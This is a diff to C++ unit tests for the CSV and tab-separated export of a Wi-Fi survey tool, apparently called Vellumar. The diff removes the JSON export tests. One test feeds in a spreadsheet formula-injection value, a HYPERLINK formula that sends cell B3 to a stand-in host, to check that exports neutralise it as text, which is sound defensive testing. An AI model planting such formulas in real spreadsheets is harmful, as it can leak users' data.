@@ -72,30 +72,7 @@ TEST(SurveyExport, CsvIsOneTableWithBomAndCrLf) {
         "Network,\"Zed, \"\"the\"\" café\",80% / -60dBm,RSNA-PSK,CCMP\r\n"
         "List,AP Name / MAC,SSID,Detail,\r\n"
         "Access point,00:1A:2B:3C:4D:5E,Alpha,Beacon Period : 100; Rates : 1 2 5.5,\r\n";
-    EXPECT_EQ(ExportText(Sample(), ExportFormat::Csv), expected);
-}
-
-TEST(SurveyExport, JsonIsOneDocument) {
-    const std::string expected = R"js({
-  "captured": "2026-12-10T17:00:00Z",
-  "program": "Vellumar",
-  "version": "1.6.3.18",
-  "adapters": [
-    {"Adapter Name": "Wi-Fi\nCard", "State": "Connected", "802.11 Capacity": "b/g/n"}
-  ],
-  "networks": [
-    {"Network Name (SSID)": "Alpha", "Signal Quality": "9% / -96dBm", "Authentication": "802.11 Open", "Cipher": "None"},
-    {"Network Name (SSID)": "Zed, \"the\" café", "Signal Quality": "80% / -60dBm", "Authentication": "RSNA-PSK", "Cipher": "CCMP"}
-  ],
-  "access_points": [
-    {"AP Name / MAC": "00:1A:2B:3C:4D:5E", "SSID": "Alpha", "detail": [["Beacon Period :", "100"], ["Rates :", "1 2 5.5"]]}
-  ]
-}
-)js";
-    EXPECT_EQ(ExportText(Sample(), ExportFormat::Json), expected);
-    ExportDocument empty{"t", "p", "v", {{"Network", "networks", {"SSID"}, {}, {}}}};
-    EXPECT_EQ(ExportJson(empty), "{\n  \"captured\": \"t\",\n  \"program\": \"p\",\n  \"version\": \"v\",\n"
-                                 "  \"networks\": []\n}\n");
+    EXPECT_EQ(ExportCsv(Sample()), expected);
 }
 
 TEST(SurveyExport, TabSeparatedCopyFlattensCells) {
@@ -104,7 +81,7 @@ TEST(SurveyExport, TabSeparatedCopyFlattensCells) {
 }
 
 // An access point in range may name itself a formula: exports and copied rows keep it
-// as text for a spreadsheet, our own signed numbers stay readable, JSON keeps the bytes.
+// as text for a spreadsheet, our own signed numbers stay readable.
 TEST(SurveyExport, NamesThatLookLikeFormulasStayText) {
     const std::string evil = "=HYPERLINK(\"//x.yz/\"&B3,\"!\")";
     ExportDocument doc{"t", "p", "v", {{"Network", "networks", {"SSID", "RSSI"}, {{evil, "-54 dBm"}, {"@cmd", "+3"}}, {}}}};
@@ -114,7 +91,6 @@ TEST(SurveyExport, NamesThatLookLikeFormulasStayText) {
                               "Network,'@cmd,+3\r\n");
     EXPECT_EQ(TabSeparatedText({"SSID", "RSSI"}, {{evil, "-54 dBm"}, {"\t-1+1", "-3"}}),
               "SSID\tRSSI\r\n'" + evil + "\t-54 dBm\r\n' -1+1\t-3\r\n");
-    EXPECT_NE(ExportJson(doc).find("\"=HYPERLINK(\\\"//x.yz/\\\"&B3"), std::string::npos);
 }
 
 }  // namespace
